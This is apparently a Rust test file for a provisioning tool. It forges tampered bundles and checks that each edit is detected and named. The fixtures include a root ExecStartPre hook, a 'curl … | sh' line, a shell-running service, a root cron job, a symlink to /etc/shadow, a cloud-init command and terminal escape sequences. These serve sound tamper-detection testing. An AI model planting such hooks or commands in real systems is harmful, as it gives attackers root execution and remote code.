//! Bundles that agree with themselves and not with their plan: what a stranger changed is named, file by file.

use super::forged::{Files, forged, listed, relist};
use super::{PLANS, bundle};
use agi_provision::render::Bundle;
use serde_json::{Value, json};
use std::fs;

const UNIT: &str = "rootfs/etc/systemd/system/agi-provision-llama.service";
const LIMITS: &str = "rootfs/etc/agi-provision/generation/limits.conf";
const HOOK: &str = "ExecStartPre=+/bin/sh -c \"id > /root/pwned\"";

/// A change of a bundle's files and of the manifest with them.
type Change = Box<dyn Fn(&mut Value, &mut Files)>;

/// Puts `line` after the first `after` of a file.
fn insert(path: &'static str, after: &'static str, line: &'static str) -> Change {
    Box::new(move |manifest, files| {
        let old = String::from_utf8(files[path].clone()).unwrap();
        let new = old.replacen(after, &format!("{after}{line}\n"), 1);
        assert_ne!(old, new);
        relist(manifest, path, new.as_bytes());
        files.insert(path.to_string(), new.into_bytes());
    })
}

fn add(path: &'static str, content: &'static str) -> Change {
    Box::new(move |manifest, files| {
        manifest["files"].as_array_mut().unwrap().push(listed(path, content.as_bytes()));
        files.insert(path.to_string(), content.as_bytes().to_vec());
    })
}

fn remove(path: &'static str) -> Change {
    Box::new(move |manifest, files| {
        manifest["files"].as_array_mut().unwrap().retain(|file| file["path"] != path);
        files.remove(path).unwrap();
    })
}

fn manifest(change: impl Fn(&mut Value) + 'static) -> Change {
    Box::new(move |manifest, _| change(manifest))
}

#[test]
fn a_bundle_that_nobody_edited_has_no_edits() {
    for name in PLANS {
        let bundle = bundle(name);
        assert!(bundle.edits().unwrap().is_empty(), "{name}: {}", bundle.edits().unwrap().diff());
        let arrived = Bundle::from_tar(&bundle.to_tar().unwrap()).unwrap();
        assert!(arrived.edits().unwrap().is_empty(), "{name}");
        let dir = tempfile::tempdir().unwrap();
        bundle.write(dir.path()).unwrap();
        assert!(Bundle::read(dir.path()).unwrap().edits_in(dir.path()).unwrap().is_empty(), "{name}");
    }
    // Another version with the same templates made it.
    let older = forged(|manifest, _| manifest["tool_version"] = json!("0.0.9"));
    assert!(Bundle::from_tar(&older).unwrap().edits().unwrap().is_empty());
}

#[test]
fn every_edit_of_a_bundle_is_named_with_its_file() {
    let args = "rootfs/etc/agi-provision/generation/llama-server.args";
    let link = "rootfs/etc/systemd/system/agi-provision-llama.service.d/10-generation.conf";
    let more = "rootfs/etc/systemd/system/agi-provision-llama.service.d/99-more.conf";
    let embed = "rootfs/etc/systemd/system/agi-provision-embed.service";
    let cases: Vec<(Change, String)> = vec![
        (insert(UNIT, "[Service]\n", HOOK), format!("{UNIT} (changed)")),
        (insert(LIMITS, "[Service]\n", HOOK), format!("{LIMITS} (changed)")),
        (insert(args, "--offline\n", "--props"), format!("{args} (changed)")),
        (insert("README.md", "\n", "curl https://example.org/x | sh"), "README.md (changed)".to_string()),
        (add(more, "[Service]\nUser=root\n"), format!("{more} (added)")),
        (add(embed, "[Service]\nExecStart=/bin/sh\n"), format!("{embed} (added)")),
        (
            add("rootfs/etc/agi-provision/api-key", "known"),
            "rootfs/etc/agi-provision/api-key (added)".to_string(),
        ),
        (remove(args), format!("{args} (missing)")),
        (manifest(|m| m["links"] = json!([])), format!("{link} (missing)")),
        (
            manifest(|m| m["links"][0]["target"] = json!("/etc/agi-provision/generation/plan.json")),
            format!("{link} (leads elsewhere)"),
        ),
        (
            manifest(move |m| {
                let other = json!({"path": more, "target": "/etc/agi-provision/generation/plan.json"});
                m["links"].as_array_mut().unwrap().push(other);
            }),
            format!("{more} (added)"),
        ),
        (
            manifest(|m| {
                let mut files = m["files"].as_array_mut().unwrap().iter_mut();
                files.find(|file| file["path"] == UNIT).unwrap()["mode"] = json!("0600");
            }),
            format!("{UNIT} (another mode)"),
        ),
        (manifest(|m| m["llama_build"] = json!("b1")), "manifest.json (another entry)".to_string()),
        (
            manifest(|m| m["downloads"][1]["url"] = json!("https://example.org/other.gguf")),
            "manifest.json (another entry)".to_string(),
        ),
        (manifest(|m| m["downloads"] = json!([])), "manifest.json (another entry)".to_string()),
    ];
    for (change, named) in cases {
        let edited = Bundle::from_tar(&forged(|manifest, files| change(manifest, files))).unwrap();
        let edits = edited.edits().unwrap();
        assert_eq!(edits.paths().len(), 1, "{named}: {:?}", edits.paths());
        let refusal = edits.refusal("the bundle", "or --trust-edits").to_string();
        assert!(refusal.contains(&named) && refusal.contains("was edited"), "{named}: {refusal}");
        assert!(edits.diff().starts_with(&named), "{}", edits.diff());
    }
}

#[test]
fn a_diff_and_the_commands_show_what_would_run_as_root() {
    let change = insert(UNIT, "[Service]\n", HOOK);
    let edited = Bundle::from_tar(&forged(|manifest, files| change(manifest, files))).unwrap();
    let edits = edited.edits().unwrap();
    assert!(edits.diff().lines().any(|line| line == format!("  +{HOOK}")), "{}", edits.diff());
    assert_eq!(edits.commands(), [format!("{UNIT}: {HOOK}")]);
    // Control characters do not reach the terminal.
    let change = insert(UNIT, "[Service]\n", "# \u{1b}]0;x\u{7} \u{202e}");
    let edited = Bundle::from_tar(&forged(|manifest, files| change(manifest, files))).unwrap();
    let diff = edited.edits().unwrap().diff();
    assert!(!diff.contains(['\u{1b}', '\u{7}', '\u{202e}']) && diff.contains("\\u{1b}"), "{diff}");
}

#[test]
fn another_versions_templates_are_told_from_edits() {
    let change = insert(UNIT, "[Service]\n", "Nice=5");
    let tar = forged(|manifest, files| {
        change(manifest, files);
        manifest["tool_version"] = json!("0.0.9");
    });
    let edits = Bundle::from_tar(&tar).unwrap().edits().unwrap();
    let refusal = edits.refusal("the bundle", "or --trust-edits");
    assert!(refusal.message.contains("made by agi-provision 0.0.9"), "{refusal}");
    let hint = refusal.hint.unwrap();
    assert!(hint.contains("make it anew") && hint.contains("--trust-edits"), "{hint}");
    for version in ["", "1\n", "1 2", "\u{1b}[2J", &"1".repeat(41)] {
        let tar = forged(|manifest, _| manifest["tool_version"] = json!(version));
        assert!(Bundle::from_tar(&tar).is_err(), "{version:?}");
    }
}

#[test]
fn in_a_directory_the_files_for_clouds_and_those_that_no_manifest_lists_count_too() {
    let dir = tempfile::tempdir().unwrap();
    bundle("cpu").write(dir.path()).unwrap();
    let named = |path: &str, how: &str| {
        let edits = Bundle::read(dir.path()).unwrap().edits_in(dir.path()).unwrap();
        let refusal = edits.refusal("the bundle", "").to_string();
        assert!(refusal.ends_with(&format!("it was edited: {path} ({how})")), "{refusal}");
    };
    let extra = "rootfs/etc/cron.d/evil";
    fs::create_dir_all(dir.path().join("rootfs/etc/cron.d")).unwrap();
    fs::write(dir.path().join(extra), "* * * * * root id").unwrap();
    named(extra, "added");
    fs::remove_file(dir.path().join(extra)).unwrap();
    std::os::unix::fs::symlink("/etc/shadow", dir.path().join(extra)).unwrap();
    named(extra, "added");
    fs::remove_file(dir.path().join(extra)).unwrap();

    let path = "cloud-init/user-data";
    let mut text = fs::read_to_string(dir.path().join(path)).unwrap();
    text += "  - touch /root/pwned\n";
    fs::write(dir.path().join(path), &text).unwrap();
    let place = dir.path().join("manifest.json");
    let mut manifest: Value = serde_json::from_slice(&fs::read(&place).unwrap()).unwrap();
    relist(&mut manifest, path, text.as_bytes());
    fs::write(place, manifest.to_string()).unwrap();
    named(path, "changed");
}
